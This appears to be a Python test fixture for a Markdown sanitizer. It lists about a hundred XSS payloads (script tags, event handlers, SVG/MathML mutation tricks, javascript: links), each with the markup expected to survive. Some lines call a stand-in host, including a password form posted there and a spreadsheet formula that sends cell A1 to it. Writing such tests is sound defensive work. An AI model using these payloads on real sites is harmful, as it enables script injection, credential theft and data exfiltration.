"""A hundred texts that attack whoever shows them, each with what may be left of it.

`kept` and `links` are the expected answer of a text written in Markdown: the tags that its own
Markdown makes, and the addresses of its links. Everywhere else the answer is the same for all: the
text is shown as it was written, and the page has no element nor attribute more.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Markup:
    """A hostile text, and what Markdown may make of it besides paragraphs and line breaks."""

    text: str
    kept: frozenset[str] = frozenset()
    links: tuple[str, ...] = ()


def _markup(text: str, kept: str = "", *links: str) -> Markup:
    return Markup(text, frozenset(kept.split()), links)


MARKUP = (
    # Scripts.
    _markup("<script>alert(1)</script>"),
    _markup("<ScRiPt>alert(1)</sCrIpT>"),
    _markup("<script\n>alert(1)</script\n>", "blockquote"),
    _markup("<script/src=//ailleurs.example/x.js></script>"),
    _markup("<script src=data:text/javascript,alert(1)></script>"),
    _markup("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _markup("<<script>alert(1);//<</script>"),
    _markup("<script>alert(1)<!--"),
    _markup("</script><script>alert(1)</script>"),
    _markup("</title></textarea></style></noscript><script>alert(1)</script>"),
    _markup('"]}</script><script>alert(1)</script>{["'),
    _markup("<script type=module>import('//ailleurs.example/x.js')</script>"),
    _markup("<script>alert`1`</script>"),
    _markup("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    _markup("\u2028<script>alert(1)</script>\u2029"),
    # Handlers of events.
    _markup("<img src=x onerror=alert(1)>"),
    _markup("<img src=x onerror\n=\nalert(1)>", "h3"),
    _markup("<img/src=x/onerror=alert(1)//"),
    _markup("<IMG SRC=x OnErRoR=alert(1)>"),
    _markup('<img src="x`<script>alert(1)</script>"` `>'),
    _markup('<img """><script>alert(1)</script>">'),
    _markup('<img src=1 onerror="&#97;&#108;&#101;&#114;&#116;(1)">'),
    _markup("<body onload=alert(1)>"),
    _markup("<input autofocus onfocus=alert(1)>"),
    _markup("<details open ontoggle=alert(1)>"),
    _markup("<video><source onerror=alert(1)></video>"),
    _markup("<audio src=x onerror=alert(1)>"),
    _markup("<marquee onstart=alert(1)>x</marquee>"),
    _markup("<a onmouseover=alert(1)>survol</a>"),
    _markup("<p onclick=alert(1)>clic</p>"),
    _markup("<div style=animation-name:x onanimationstart=alert(1)></div>"),
    _markup("<xss onpointerrawupdate=alert(1) tabindex=1>x</xss>"),
    _markup("<button popovertarget=x onclick=alert(1)>x</button><div popover id=x>x</div>"),
    _markup("<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>"),
    # Ways out of an attribute.
    _markup('"><script>alert(1)</script>'),
    _markup("'><img src=x onerror=alert(1)>"),
    _markup('" onmouseover="alert(1)'),
    _markup("' onmouseover='alert(1)"),
    _markup('" autofocus onfocus=alert(1) x="'),
    _markup("x onfocus=alert(1) autofocus"),
    _markup("` onmouseover=alert(1) `"),
    _markup('"/><svg/onload=alert(1)>'),
    _markup("&quot; onmouseover=&quot;alert(1)"),
    _markup("&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;"),
    # SVG and MathML, which parsers read otherwise.
    _markup("<svg onload=alert(1)>"),
    _markup("<svg><script>alert(1)</script></svg>"),
    _markup("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _markup('<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>'),
    _markup('<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    _markup("<svg><style><img src=x onerror=alert(1)></style></svg>"),
    _markup(
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    _markup('<math href="javascript:alert(1)">clic</math>'),
    _markup('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    _markup(
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        '<path id="</style><img onerror=alert(1) src>">'
    ),
    # Addresses that run, or lead elsewhere.
    _markup('<a href="javascript:alert(1)">clic</a>'),
    _markup('<a href="JaVaScRiPt:alert(1)">clic</a>'),
    _markup('<a href="java\tscript:alert(1)">clic</a>'),
    _markup('<a href="&#106;avascript:alert(1)">clic</a>'),
    _markup('<a href="\x01javascript:alert(1)">clic</a>'),
    _markup('<a href="data:text/html,<script>alert(1)</script>">clic</a>'),
    _markup("<a href=vbscript:msgbox(1)>clic</a>"),
    _markup("[clic](javascript:alert(1))"),
    _markup("[clic](JAVASCRIPT&colon;alert(1))"),
    _markup("[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    _markup("[clic](vbscript:msgbox(1))"),
    _markup("[clic](file:///etc/passwd)"),
    _markup(
        '[clic](https://exemple.fr/"onmouseover="alert(1))',
        "a",
        "https://exemple.fr/%22onmouseover=%22alert(1)",
    ),
    _markup(
        '[clic](https://exemple.fr "titre\\" onmouseover=alert(1) x=")', "a", "https://exemple.fr"
    ),
    _markup('![image](x"onerror="alert(1))', "a"),
    _markup(
        "![pixel](https://ailleurs.example/pixel.gif)", "a", "https://ailleurs.example/pixel.gif"
    ),
    _markup("[clic][x]\n\n[x]: javascript:alert(1)"),
    _markup("<javascript:alert(1)>"),
    _markup("<https://exemple.fr/?a=1&b=<script>>"),
    _markup("[clic](//ailleurs.example/)", "a"),
    # What brings a page or a file from elsewhere.
    _markup("<iframe src=javascript:alert(1)></iframe>"),
    _markup('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _markup("<object data=javascript:alert(1)></object>"),
    _markup("<embed src=//ailleurs.example/x.swf>"),
    _markup("<link rel=stylesheet href=//ailleurs.example/x.css>"),
    _markup('<meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
    _markup("<base href=//ailleurs.example/>"),
    _markup("<style>@import '//ailleurs.example/x.css';</style>"),
    _markup('<p style="background:url(//ailleurs.example/pixel)">x</p>'),
    _markup("<portal src=//ailleurs.example/></portal><fencedframe></fencedframe>"),
    _markup("<template shadowrootmode=open><script>alert(1)</script></template>"),
    # Forms, and names that hide those of the page.
    _markup(
        "<form action=//ailleurs.example/><input name=password><button>Se connecter</button></form>"
    ),
    _markup("<button form=f formaction=javascript:alert(1)>Envoyer</button>"),
    _markup("<input name=csrf_token value=x><input name=next value=//ailleurs.example>"),
    _markup("<img name=getElementById><form id=documentElement></form>"),
    _markup("</form><form action=//ailleurs.example/><textarea>"),
    # Comments and markup that parsers mend in their own way.
    _markup('<!--<img src="--><img src=x onerror=alert(1)//">'),
    _markup("<![CDATA[<script>alert(1)</script>]]>"),
    _markup('<?xml version="1.0"?><script>alert(1)</script>'),
    _markup(']]></title><entry/><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
    _markup("<plaintext>"),
    _markup('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _markup(
        "**gras <script>alert(1)</script>**\n\n> citation <img src=x onerror=alert(1)>\n\n"
        "1. <svg onload=alert(1)>",
        "blockquote li ol strong",
    ),
    # What other interpreters would run.
    _markup("{{ 7191*7393 }}{% print(7191*7393) %}${7191*7393}#{7191*7393}", "em"),
    _markup("%(name)s %s {0.__class__} {{config}}", "strong"),
    _markup('=HYPERLINK("//ailleurs.example/"&A1,"clic")'),
)
